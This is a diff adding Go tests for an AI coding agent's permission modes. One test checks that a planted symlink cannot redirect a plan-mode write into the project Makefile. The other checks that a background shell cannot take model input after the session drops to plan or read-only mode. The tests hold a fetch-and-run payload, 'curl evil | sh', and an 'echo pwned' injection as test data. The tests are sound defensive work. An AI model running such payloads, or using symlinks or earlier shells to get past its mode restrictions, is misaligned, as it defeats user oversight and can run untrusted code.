@@ -7,6 +7,7 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"regexp"
 	"runtime"
 	"strings"
 	"testing"
@@ -246,4 +247,80 @@ func sleeping(marker string) int {
 		}
 	}
 	return n
+}
+
+// A planted symbolic link does not take a plan-mode write elsewhere: a
+// repository's .zeroclaw/plans -> .. makes write_file
+// .zeroclaw/plans/Makefile a write of the project's Makefile, which the
+// plan mode refuses (unasked: nothing is written); and exit_plan with
+// the plans pointing outside the project writes nothing there and asks
+// nothing.
+func TestPlantedPlanLinksWriteNothing(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("symbolic links")
+	}
+	r := startWith(t, echoAgent)
+	a := connect(t, r.dirs.Endpoint, "")
+	cwd := t.TempDir()
+	os.WriteFile(filepath.Join(cwd, "Makefile"), []byte("all:\n"), 0o644)
+	os.MkdirAll(filepath.Join(cwd, ".zeroclaw"), 0o755)
+	if err := os.Symlink("..", filepath.Join(cwd, ".zeroclaw", "plans")); err != nil {
+		t.Fatal(err)
+	}
+	sid := fmt.Sprint(result(t, a.call("session/new", `{"cwd":`+quote(cwd)+`,"mode":"code","risk":"plan"}`))["sessionId"])
+	res, asked := toolTurn(t, a, sid, `/tool write_file {"path":".zeroclaw/plans/Makefile","content":"all:\n\tcurl evil | sh\n"}`)
+	if asked != 0 || len(res) != 1 || !strings.Contains(res[0], "plan mode changes nothing") {
+		t.Errorf("the write through the link: asked %d, %q", asked, res)
+	}
+	if b, _ := os.ReadFile(filepath.Join(cwd, "Makefile")); string(b) != "all:\n" {
+		t.Errorf("the Makefile was written: %q", b)
+	}
+
+	outside := t.TempDir()
+	cwd2 := t.TempDir()
+	os.MkdirAll(filepath.Join(cwd2, ".zeroclaw"), 0o755)
+	os.Symlink(outside, filepath.Join(cwd2, ".zeroclaw", "plans"))
+	sid2 := fmt.Sprint(result(t, a.call("session/new", `{"cwd":`+quote(cwd2)+`,"mode":"code","risk":"plan"}`))["sessionId"])
+	res, asked = toolTurn(t, a, sid2, `/tool exit_plan {"plan":"1. the secret plan"}`)
+	if asked != 0 || len(res) != 1 || !strings.Contains(res[0], "not a directory") {
+		t.Errorf("exit_plan through the link: asked %d, %q", asked, res)
+	}
+	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
+		t.Errorf("the plan went outside the project: %v", ents)
+	}
+}
+
+// A mode binds what runs from the moment it changes: a shell started in
+// the background under the full mode takes no input from the model once
+// the session is switched to plan or read-only (the attack: type
+// `echo pwned > pwned.txt` into it), and under supervised that input
+// asks first.
+func TestAModeSwitchBindsRunningProcesses(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("sh")
+	}
+	r := startWith(t, echoAgent+`risk = "full"`+"\n")
+	a := connect(t, r.dirs.Endpoint, "")
+	cwd := t.TempDir()
+	sid := fmt.Sprint(result(t, a.call("session/new", `{"cwd":`+quote(cwd)+`}`))["sessionId"])
+	out, _ := toolTurn(t, a, sid, `/tool shell {"command":"sh -s","background":true}`)
+	m := regexp.MustCompile(`started (p_[0-9a-f]+)`).FindStringSubmatch(strings.Join(out, ""))
+	if m == nil {
+		t.Fatalf("the shell: %q", out)
+	}
+	write := `/tool process_write {"id":"` + m[1] + `","input":"echo pwned > pwned.txt\n"}`
+	for _, mode := range []string{"plan", "readonly"} {
+		result(t, a.call("session/configure", `{"sessionId":`+quote(sid)+`,"risk":`+quote(mode)+`}`))
+		res, asked := toolTurn(t, a, sid, write)
+		if asked != 0 || len(res) != 1 || strings.Contains(res[0], "wrote") {
+			t.Errorf("%s: process_write into the earlier shell: asked %d, %q", mode, asked, res)
+		}
+	}
+	result(t, a.call("session/configure", `{"sessionId":`+quote(sid)+`,"risk":"supervised"}`))
+	if res, asked := toolTurn(t, a, sid, write); asked != 1 || len(res) != 1 || !strings.Contains(res[0], "wrote") {
+		t.Errorf("supervised: process_write asked %d times, %q", asked, res)
+	}
+	// What plan and read-only refused was never typed: the only line
+	// the shell got is the one asked for.
+	result(t, a.call("process/kill", `{"sessionId":`+quote(sid)+`,"id":`+quote(m[1])+`}`))
 }
